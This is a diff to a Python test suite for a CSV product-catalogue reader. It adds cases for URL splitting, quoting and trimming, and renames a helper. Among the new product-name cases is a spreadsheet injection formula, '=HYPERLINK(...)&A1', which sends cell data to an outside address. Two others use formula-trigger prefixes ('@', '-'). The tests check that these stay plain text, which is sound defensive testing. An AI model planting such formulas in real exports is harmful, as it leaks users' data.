@@ -3,7 +3,7 @@ import pytest
 from libs.egress import EgressPolicy
 from services.ingest.catalogue import Catalogue
 from services.ingest.spool import Spool
-from tests.unit.catalogues import HEADER, ReadRow, feed, rows_of
+from tests.unit.catalogues import HEADER, ReadRow, read, rows_of
 
 U1, U2, U3 = "https://picsum.photos/200/300", "https://picsum.photos/200/301", "https://picsum.photos/200/302"
 ONE = [ReadRow(1, "SKU1", [U1])]
@@ -56,6 +56,11 @@ def test_spellings_of_the_same_file_are_read_alike(data: bytes, chunk: int) -> N
         ('"https://a.example/w_200,h_300/a.jpg"', ["https://a.example/w_200,h_300/a.jpg"]),
         (f"https://a.example/w_200,h_300/a.jpg, {U1}", ["https://a.example/w_200,h_300/a.jpg", U1]),
         ("https://a.example/w,,h.jpg", ["https://a.example/w,,h.jpg"]),
+        ("https://a.example/fetch/w_300,s3://b/a.jpg", ["https://a.example/fetch/w_300,s3://b/a.jpg"]),
+        ("https://a.example/a,data:1/b.jpg", ["https://a.example/a,data:1/b.jpg"]),
+        (f"{U1},ftp://a.example/a.jpg,{U2}", [f"{U1},ftp://a.example/a.jpg", U2]),
+        ('"https://a.example/""a"",b.jpg"', ['https://a.example/"a",b.jpg']),
+        (f'"{U1}" ,"{U2}"', [U1, U2]),
         (f'"https://a.example/x,","{U1}"', ["https://a.example/x,", U1]),
         ("HTTP://A.example/a.jpg", ["HTTP://A.example/a.jpg"]),
         ("https://bücher.example/ä.jpg", ["https://bücher.example/ä.jpg"]),
@@ -82,6 +87,13 @@ def test_a_semicolon_in_a_url_survives_a_semicolon_file() -> None:
         ('"two\r\nlines"', "two\r\nlines"),
         ('"5"" disk, red"', '5" disk, red'),
         ('5" disk', '5" disk'),
+        ('"SKU" 1', "SKU 1"),
+        ('"SKU"x', "SKUx"),
+        ("  red disk ", "red disk"),
+        ('" red disk "', "red disk"),
+        ('"=HYPERLINK(""http://10.0.0.1/?""&A1,""x"")"', '=HYPERLINK("http://10.0.0.1/?"&A1,"x")'),
+        ("@SUM(1+1)", "@SUM(1+1)"),
+        ("-2+3", "-2+3"),
         ('"=HYPERLINK(""http://x"",""y"")"', '=HYPERLINK("http://x","y")'),
         ("=1+1", "=1+1"),
         ("", ""),
@@ -90,7 +102,7 @@ def test_a_semicolon_in_a_url_survives_a_semicolon_file() -> None:
 )
 @pytest.mark.parametrize("chunk", [1, 1 << 18])
 def test_a_product_name_comes_out_as_it_was_written(cell: str, name: str, chunk: int) -> None:
-    """Newlines, quotes, commas and formulas in a name are text."""
+    """Newlines, quotes, commas and formulas in a name are text; only spaces around it are dropped."""
     assert rows_of(f"{HEADER}1,{cell},{U1}\n", chunk=chunk) == [ReadRow(1, name, [U1])]
 
 
@@ -104,7 +116,7 @@ def test_the_same_serial_number_may_stand_twice() -> None:
 def test_a_repeated_url_is_an_alias_of_its_first_occurrence() -> None:
     """Other spellings of the same address count as the same; the spelling is kept."""
     with Spool() as spool:
-        feed(
+        read(
             Catalogue(EgressPolicy(), spool, max_images=10),
             f"{HEADER}1,A,{U1}\n2,B,{U2}, HTTPS://Picsum.Photos:443/200/300#top\n3,C,{U1}\n",
         )
@@ -118,7 +130,7 @@ def test_a_repeated_url_is_an_alias_of_its_first_occurrence() -> None:
 
 @pytest.mark.parametrize("quote", ["", '"'])
 def test_one_row_may_hold_a_hundred_thousand_urls(quote: str) -> None:
-    """A row is never held whole, whether its URLs stand in one cell or in as many columns."""
+    """Whether its URLs stand in one cell or in as many columns."""
     urls = [f"https://a.example/{number}.jpg" for number in range(100_000)]
 
     [row] = rows_of(f"{HEADER}1,SKU1,{quote}{', '.join(urls)}{quote}\n")
@@ -130,6 +142,6 @@ def test_batches_hold_a_thousand_images_at_most() -> None:
     """Images leave the spool in batches, in order."""
     with Spool() as spool:
         data = HEADER + "".join(f"{n},P,https://a.example/{n}\n" for n in range(2_001))
-        feed(Catalogue(EgressPolicy(), spool, max_images=3_000), data)
+        read(Catalogue(EgressPolicy(), spool, max_images=3_000), data)
 
         assert [len(batch) for batch in spool.batches()] == [1_000, 1_000, 1]
